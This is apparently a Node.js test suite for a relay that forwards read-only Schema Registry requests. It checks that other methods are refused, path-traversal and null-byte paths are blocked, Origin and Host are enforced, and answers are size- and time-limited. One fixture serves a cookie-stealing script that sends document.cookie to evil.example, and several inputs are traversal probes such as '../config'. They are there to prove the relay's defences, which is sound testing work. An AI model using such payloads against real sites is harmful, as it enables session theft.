// The relay's way to a Schema Registry (relay/registry.mjs): browsers read schemas through it, GET
// of schema paths only, with the relay's credentials; everything else is refused before the
// registry hears of it. Against the project's registry (registry.mjs), with auth on.
//   node --test tests/live/relay-registry.test.mjs
import assert from 'node:assert/strict';
import http from 'node:http';
import net from 'node:net';
import { after, before, describe, test } from 'node:test';
import { pkg } from '../js/helpers.mjs';
import { startRegistry } from './registry.mjs';

/** A raw request (node:http, so that Host, Origin and the method are whatever the test says). */
function request(url, { method = 'GET', headers = {}, path } = {}) {
  const u = new URL(url);
  return new Promise((resolve, reject) => {
    const req = http.request({ host: u.hostname, port: u.port, method, path: path ?? `${u.pathname}${u.search}`, headers }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, text: Buffer.concat(chunks).toString() }));
    });
    req.on('error', reject);
    req.end();
  });
}

describe("the relay's registry paths", () => {
  let registry;
  let relay;
  let id;
  const lines = [];
  before(async () => {
    registry = await startRegistry({ auth: { basic: 'reader:s3cret' } });
    id = registry.register('orders-value', { schema: '"string"' }).id;
    registry.register('common/money.proto', { schema: 'syntax = "proto3"; message Money { int64 units = 1; }', schemaType: 'PROTOBUF' });
    relay = await pkg.startRelay({
      bootstrap: '127.0.0.1:9', // never asked here
      schemaRegistry: { url: registry.url, username: 'reader', password: 's3cret', maxResponseBytes: 1 << 20, timeoutMs: 500 },
      allowOrigins: ['http://localhost:5173'],
      log: (line) => lines.push(line),
    });
  });
  after(() => Promise.all([relay?.close(), registry?.close()]));

  test("a schema by id, its subjects, a subject version: answered with the relay's credentials", async () => {
    const before = registry.requests.length;
    const byId = await request(`${relay.registryUrl}/schemas/ids/${id}`, { headers: { authorization: 'Bearer not-forwarded', cookie: 'session=x' } });
    assert.equal(byId.status, 200);
    assert.deepEqual(JSON.parse(byId.text), { schema: '"string"' });
    assert.equal(byId.headers['content-type'], 'application/json', 'always JSON, whatever the registry said');
    const subjects = await request(`${relay.registryUrl}/schemas/ids/${id}/versions`);
    assert.deepEqual(JSON.parse(subjects.text), [{ subject: 'orders-value', version: 1 }]);
    const version = await request(`${relay.registryUrl}/subjects/orders-value/versions/1`);
    assert.equal(JSON.parse(version.text).id, id);
    // a reference's subject is its import path: its / sent as %2F, inside the segment
    const imported = await request(`${relay.registryUrl}/subjects/common%2Fmoney.proto/versions/1`);
    assert.equal(JSON.parse(imported.text).subject, 'common/money.proto');
    assert.equal((await request(`${relay.registryUrl}/schemas/ids/999`)).status, 404, "the registry's own 404");
    assert.deepEqual(
      registry.requests.slice(before).map((r) => r.path),
      [
        `/schemas/ids/${id}`,
        `/schemas/ids/${id}/versions`,
        '/subjects/orders-value/versions/1',
        '/subjects/common%2Fmoney.proto/versions/1',
        '/schemas/ids/999',
      ],
    );
    // the subjects and a subject's versions, for the page's Schema Registry view
    assert.deepEqual(JSON.parse((await request(`${relay.registryUrl}/subjects`)).text), ['common/money.proto', 'orders-value']);
    assert.deepEqual(JSON.parse((await request(`${relay.registryUrl}/subjects/orders-value/versions`)).text), [1]);
    // a RegistryClient in a page uses it as a registry
    const client = new pkg.RegistryClient({ url: relay.registryUrl });
    assert.equal((await client.schemaById(id)).schema, '"string"');
  });

  test('every request that is not a GET of a schema path is refused, and the registry never asked', async () => {
    const before = registry.requests.length;
    const refused = [
      ['POST', '/subjects/orders-value/versions', 405],
      ['PUT', '/config', 405],
      ['DELETE', '/subjects/orders-value', 405],
      ['PATCH', '/schemas/ids/1', 405],
      ['HEAD', '/schemas/ids/1', 405],
      ['OPTIONS', '/schemas/ids/1', 405],
      ['GET', '', 404],
      ['GET', '/', 404],
      ['GET', '/subjects?deleted=true', 404],
      ['GET', '/subjects/orders-value', 404],
      ['GET', '/subjects/orders-value/versions?deleted=true', 404],
      ['GET', '/config', 404],
      ['GET', '/mode', 404],
      ['GET', '/contexts', 404],
      ['GET', '/schemas/types', 404],
      ['GET', '/schemas/ids/1/schema', 404],
      ['GET', '/schemas/ids/1/../../config', 404],
      ['GET', '/schemas/ids/%2e%2e/config', 404],
      ['GET', '/subjects/..%2fconfig/versions/1', 404],
      ['GET', '/subjects/%2e%2e/versions/1', 404],
      ['GET', '/schemas/ids/%31', 404],
      ['GET', '/subjects/a%00b/versions/1', 404],
      ['GET', '/schemas/ids/1?deleted=true', 404],
      ['GET', '/schemas/ids/1?format=serialized&x=1', 404],
      ['GET', '/subjects/orders-value/versions/1/referencedby', 404],
      ['GET', '/schemas/ids/99999999999', 404],
    ];
    for (const [method, path, status] of refused) {
      const res = await request(relay.url, { method, path: `/registry${path}` });
      assert.equal(res.status, status, `${method} ${path}`);
      if (method !== 'HEAD') assert.match(JSON.parse(res.text).message, /^kafka-fetch-decoder relay: /, `${method} ${path}`);
    }
    assert.equal(registry.requests.length, before, 'no refused request reached the registry');
    assert.ok(lines.some((l) => /registry: refused POST \/registry\/subjects\/orders-value\/versions/.test(l)));
  });

  test('a raw \\ or # in a path is refused, and the registry gets the path as checked, segment by segment', async () => {
    const before = registry.requests.length;
    // a URL parser reads \ as / and # as the end of the path: these would have asked GET /subjects/orders-value
    for (const path of [
      '/subjects/orders-value#/versions/1',
      '/subjects/orders-value\\x/versions/1',
      '/subjects/orders-value%5C/versions/1#',
      '/schemas/ids/1#x',
    ]) {
      const res = await request(relay.url, { path: `/registry${path}` });
      assert.equal(res.status, 404, path);
      assert.match(JSON.parse(res.text).message, /not a schema path/, path);
    }
    assert.equal(registry.requests.length, before, 'none reached the registry');
    // an encoded \ or # in a subject is a subject's character: forwarded encoded, inside its segment
    const odd = registry.register('a\\b#c', { schema: '"int"' });
    const res = await request(`${relay.registryUrl}/subjects/${encodeURIComponent('a\\b#c')}/versions/1`);
    assert.equal(JSON.parse(res.text).id, odd.id);
    assert.equal(registry.requests.at(-1).path, '/subjects/a%5Cb%23c/versions/1');
  });

  test('an answer is JSON that runs nothing, whatever type the registry gave it', async () => {
    registry.override('/schemas/ids/60', () => ({
      body: '<script>fetch("http://evil.example/?"+document.cookie)</script>',
      headers: { 'content-type': 'text/html' },
    }));
    const res = await request(`${relay.registryUrl}/schemas/ids/60`);
    assert.equal(res.status, 200);
    assert.equal(res.headers['content-type'], 'application/json');
    assert.equal(res.headers['x-content-type-options'], 'nosniff');
    assert.match(res.headers['content-security-policy'], /default-src 'none'; sandbox/);
    const refused = await request(relay.url, { method: 'POST', path: '/registry/schemas/ids/60' });
    assert.equal(refused.headers['x-content-type-options'], 'nosniff', 'refusals too');
  });

  test('Host and Origin are checked as for the WebSocket relay', async () => {
    const at = `${relay.registryUrl}/schemas/ids/${id}`;
    const port = new URL(relay.url).port;
    assert.equal((await request(at, { headers: { origin: 'http://localhost:5173' } })).headers['access-control-allow-origin'], 'http://localhost:5173');
    assert.equal((await request(at, { headers: { origin: `http://localhost:${port}` } })).status, 200);
    const cases = [
      [{ origin: 'https://evil.example' }, /origin https:\/\/evil.example is not allowed/],
      [{ 'sec-fetch-site': 'cross-site' }, /a cross-site request without an Origin/],
      [{ host: `evil.example:${port}` }, /host evil.example:\d+ is not the relay's/], // DNS rebinding
    ];
    for (const [headers, message] of cases) {
      const res = await request(at, { headers });
      assert.equal(res.status, 403, JSON.stringify(headers));
      assert.match(JSON.parse(res.text).message, message);
      assert.equal(res.headers['access-control-allow-origin'], headers.origin === undefined ? undefined : headers.origin);
    }
  });

  test('answers are bounded: too large, too slow, a registry that is gone', async () => {
    registry.override('/schemas/ids/50', (req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(Buffer.alloc(2 << 20, 0x20));
    });
    registry.override('/schemas/ids/51', () => new Promise(() => {})); // never answers
    const large = await request(`${relay.registryUrl}/schemas/ids/50`);
    assert.deepEqual([large.status, JSON.parse(large.text).message], [502, "kafka-fetch-decoder relay: the registry's answer is over 1048576 bytes"]);
    const slow = await request(`${relay.registryUrl}/schemas/ids/51`);
    assert.deepEqual([slow.status, JSON.parse(slow.text).message], [502, 'kafka-fetch-decoder relay: the registry gave no answer within 500 ms']);
    const closedPort = await new Promise((resolve) => {
      const server = net.createServer().listen(0, '127.0.0.1', () => {
        const { port } = server.address();
        server.close(() => resolve(port));
      });
    });
    const gone = await pkg.startRelay({ bootstrap: '127.0.0.1:9', schemaRegistry: { url: `http://127.0.0.1:${closedPort}` }, log: () => {} });
    try {
      const res = await request(`${gone.registryUrl}/schemas/ids/1`);
      assert.equal(res.status, 502);
      assert.match(JSON.parse(res.text).message, /the registry did not answer: ECONNREFUSED/);
    } finally {
      await gone.close();
    }
  });

  test("without the relay's credentials the registry says 401; a bad URL is refused at the start", async () => {
    const anonymous = await pkg.startRelay({ bootstrap: '127.0.0.1:9', schemaRegistry: { url: registry.url }, log: () => {} });
    try {
      assert.equal((await request(`${anonymous.registryUrl}/schemas/ids/${id}`)).status, 401);
    } finally {
      await anonymous.close();
    }
    await assert.rejects(pkg.startRelay({ bootstrap: '127.0.0.1:9', schemaRegistry: { url: 'file:///etc/passwd' } }), /http:\/\/ or https:\/\//);
    const plain = await pkg.startRelay({ bootstrap: '127.0.0.1:9', log: () => {} });
    try {
      assert.equal(plain.registryUrl, null);
      assert.equal((await request(`${plain.url}registry/schemas/ids/1`)).status, 404, 'no registry: nothing at /registry');
    } finally {
      await plain.close();
    }
  });
});
